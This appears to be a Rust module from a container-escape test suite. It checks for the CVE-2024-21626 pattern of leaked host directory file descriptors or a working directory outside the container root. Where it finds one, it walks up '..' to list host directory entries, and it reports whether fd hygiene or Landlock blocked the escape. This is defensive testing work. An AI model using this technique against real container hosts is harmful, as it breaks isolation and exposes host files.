//! **E18 CVE-2024-21626 shape.** Scans `/proc/self/fd` for directory fds outside the container
//! root (a runtime leaking a host fd) and checks whether the cwd is outside the root
//! (`getcwd` returning `(unreachable)`). From a leaked directory fd, walks `..` to show host
//! entries. Stopped by: fd hygiene (CLOEXEC/close_range) and cwd verification in the runtime (F),
//! Landlock.

use crate::outcome::Layer;
use crate::{sys, Ctx, Outcome, Technique};
use std::os::fd::AsRawFd;

pub const T: Technique = Technique {
    id: "leaked-fds-cwd",
    eid: "E18",
    title: "leaked host directory fds / cwd outside the root",
    layers: "F, L",
    run,
};

fn raw_getcwd() -> String {
    let mut buf = vec![0u8; 4096];
    // SAFETY: the kernel's getcwd writes at most buf.len() bytes.
    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
    if n <= 0 {
        return String::new();
    }
    let end = buf.iter().position(|b| *b == 0).unwrap_or(n as usize);
    String::from_utf8_lossy(&buf[..end]).into_owned()
}

/// Walk `..` from `fd` a few levels and list what is there.
fn walk_up(fd: i32) -> String {
    let dotdot = sys::cstr("..");
    let mut cur = fd;
    let mut opened = Vec::new();
    for _ in 0..16 {
        // SAFETY: openat relative to a directory fd we hold.
        let n = unsafe {
            libc::openat(
                cur,
                dotdot.as_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        if n < 0 {
            break;
        }
        opened.push(n);
        cur = n;
    }
    let s = sys::list_dir(format!("/proc/self/fd/{cur}"), 8);
    for n in opened {
        // SAFETY: closing fds we opened above.
        unsafe { libc::close(n) };
    }
    s
}

fn run(_ctx: &Ctx) -> Outcome {
    let mut fds: Vec<i32> = match std::fs::read_dir("/proc/self/fd") {
        Ok(rd) => rd
            .flatten()
            .filter_map(|e| e.file_name().to_string_lossy().parse().ok())
            .collect(),
        Err(e) => return Outcome::na(format!("no /proc/self/fd ({e})")),
    };
    fds.sort();
    let mut escapes = Vec::new();
    let mut strange = Vec::new();
    for fd in fds {
        if fd <= 2 {
            continue;
        }
        let Ok(link) = std::fs::read_link(format!("/proc/self/fd/{fd}")) else {
            continue;
        };
        let Ok(st) = sys::fstat(fd) else { continue };
        let link_s = link.display().to_string();
        if !link_s.starts_with('/') {
            continue; // pipes, sockets, anon inodes
        }
        let inside = sys::stat(&link)
            .map(|s| sys::dev_ino(&s) == sys::dev_ino(&st))
            .unwrap_or(false);
        if inside {
            continue;
        }
        if st.st_mode & libc::S_IFMT == libc::S_IFDIR {
            escapes.push(format!(
                "fd {fd} -> {link_s} (outside root; ../ holds {})",
                walk_up(fd)
            ));
        } else {
            strange.push(format!("fd {fd} -> {link_s}"));
        }
    }
    let cwd = raw_getcwd();
    if cwd.starts_with("(unreachable)") {
        let here = sys::open(".", libc::O_RDONLY | libc::O_DIRECTORY);
        let up = here.map(|h| walk_up(h.as_raw_fd())).unwrap_or_default();
        escapes.push(format!("cwd {cwd} is outside the root; ../ holds {up}"));
    }
    if !escapes.is_empty() {
        return Outcome::escaped(escapes.join("; "));
    }
    if !strange.is_empty() {
        return Outcome::exposed(format!(
            "non-directory fds from outside the root: {}",
            strange.join(", ")
        ));
    }
    Outcome::blocked_by(
        Layer::FdHygiene,
        format!("no fd outside the root; cwd {cwd}"),
    )
}
